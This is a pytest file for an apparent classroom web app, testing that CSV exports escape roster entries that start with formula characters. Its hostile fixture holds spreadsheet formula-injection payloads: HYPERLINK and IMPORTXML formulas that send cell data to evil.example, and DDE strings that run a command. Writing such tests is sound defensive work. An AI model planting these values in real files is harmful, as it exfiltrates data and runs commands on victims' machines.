"""The class mode's CSV files opened in a spreadsheet, with a roster as an attacker would enrol:
student ids and names a spreadsheet would run as formulas are escaped (OWASP's rule: a leading
``'``) in ``serve tokens``' file and in every export of the teacher's page; tokens and links are
written as made."""

from __future__ import annotations

import csv
import io

import pytest
from starlette.testclient import TestClient

from membranelab.cli import main
from membranelab.web import ClassSettings, ServeConfig, create_app
from membranelab.web.db import ClassDB
from membranelab.web.roster import issue_tokens, read_roster
from membranelab.web.security import hash_token, new_token

from .conftest import ASSIGNMENT, BASE, PROBLEMS, csrf_of, signed_in

# A roster as an attacker would enrol: each id or name starts with a character that makes
# Excel, LibreOffice or Google Sheets read the cell as a formula (=, +, -, @).
HOSTILE = [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', "Eve"),
    ("+cmd|' /C calc'!A0", "Mallory"),
    ("-2+3+cmd|' /C calc'!A0", "Trudy"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "Oscar"),
    ("ivan", '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")'),
    ("judy", "-1+1"),
    ("walter", "-80.6"),  # a plain number: a spreadsheet reads it as a number, never runs it
]


def _roster(tmp_path) -> str:
    path = tmp_path / "roster.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["student", "name"])
        writer.writerows(HOSTILE)
    return str(path)


def test_hostile_ids_and_names_are_escaped(tmp_path):
    """Every id or name starting with =, +, - or @ (not a plain number) is written with a
    leading quote; the database keeps the id as enrolled."""
    out, url = tmp_path / "tokens.csv", f"sqlite:///{tmp_path / 'c.db'}"
    assert main(["serve", "tokens", _roster(tmp_path), "-o", str(out), "--db", url]) == 0
    rows = [r for r in csv.DictReader(out.open(encoding="utf-8")) if r["role"] == "student"]
    written = [(r["student"], r["name"]) for r in rows]
    assert written == [
        ('\'=HYPERLINK("http://evil.example/?"&A1,"click")', "Eve"),
        ("'+cmd|' /C calc'!A0", "Mallory"),
        ("'-2+3+cmd|' /C calc'!A0", "Trudy"),
        ("'@SUM(1+1)*cmd|' /C calc'!A0", "Oscar"),
        ("ivan", '\'=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")'),
        ("judy", "'-1+1"),
        ("walter", "-80.6"),
    ]
    db = ClassDB(url)
    hashes = db.student_hashes()
    db.close()
    assert set(hashes) == {student for student, _ in HOSTILE}
    for row, (student, _) in zip(rows, HOSTILE, strict=True):
        assert hashes[student] == hash_token(row["token"])  # the token as written signs in
        assert row["link"].endswith(f"/login?token={row['token']}")


def test_no_cell_starts_a_formula(tmp_path):
    """No cell of the file (header, teacher's row, students' rows) starts with a formula's
    character unless it is a plain number."""
    out = tmp_path / "tokens.csv"
    assert main(["serve", "tokens", _roster(tmp_path), "-o", str(out),
                 "--db", f"sqlite:///{tmp_path / 'c.db'}"]) == 0
    cells = [cell for row in csv.reader(out.open(encoding="utf-8")) for cell in row]
    assert len(cells) == 5 * (1 + 1 + len(HOSTILE))
    starts = [c for c in cells if c and c[0] in "=+-@\t\r"]
    assert starts == ["-80.6"]


def test_tokens_never_start_with_a_formula_character():
    """2,000 tokens, none starting with '-' (URL-safe base64 would start 1 in 64 with it: 31
    expected), so escaping never changes a token."""
    tokens = [new_token() for _ in range(2000)]
    assert not [t for t in tokens if t[0] in "=+-@\t\r"]
    assert len(set(tokens)) == 2000 and all(len(t) == 43 for t in tokens)


@pytest.mark.slow  # seven students sign in and answer: about 7 s on a busy machine
def test_teacher_exports_escape_hostile_ids(tmp_path):
    """Every export of the teacher's page (grades, Canvas grades, answers, submissions), with
    each hostile student having answered once: every id that starts a formula is written with
    a leading quote, and no cell starts one (the exports hold ids, not names)."""
    roster = read_roster(_roster(tmp_path))
    url = f"sqlite:///{tmp_path / 'class.db'}"
    db = ClassDB(url)
    rows = issue_tokens(db, roster, base_url=BASE)
    db.close()
    tokens = {r[1]: r[3] for r in rows if r[0] == "student"}
    teacher = next(r[3] for r in rows if r[0] == "teacher")
    klass = ClassSettings(roster=tmp_path / "roster.csv", assignment=ASSIGNMENT,
                          problems=PROBLEMS, title="Problem set 1", db_url=url,
                          feedback="named", tries=2)
    app = create_app(ServeConfig(klass=klass, lang="en"))
    try:
        with TestClient(app, base_url=BASE):
            for student, _ in HOSTILE:
                client = signed_in(app, tokens[student])
                csrf = csrf_of(client.get("/p/nernst-potassium").text)
                assert client.post("/p/nernst-potassium/answer", data={
                    "csrf": csrf, "part": "E_K", "answer": "-60 mV"},
                    headers={"Accept": "application/json"}).status_code == 200
            staff = signed_in(app, teacher)
            exports = {name: staff.get(f"/teacher/{name}").text for name in (
                "grades.csv", "grades-canvas.csv", "answers.csv", "submissions.csv")}
    finally:
        app.state.web.db.close()
    escaped = {"'" + s for s, _ in HOSTILE if s[0] in "=+-@"}
    for name, text in exports.items():
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert escaped <= set(cells), name  # every hostile student is there, escaped
        assert not [c for c in cells if c and c[0] in "=+-@\t\r"
                    and not _plain_number(c)], name


def _plain_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
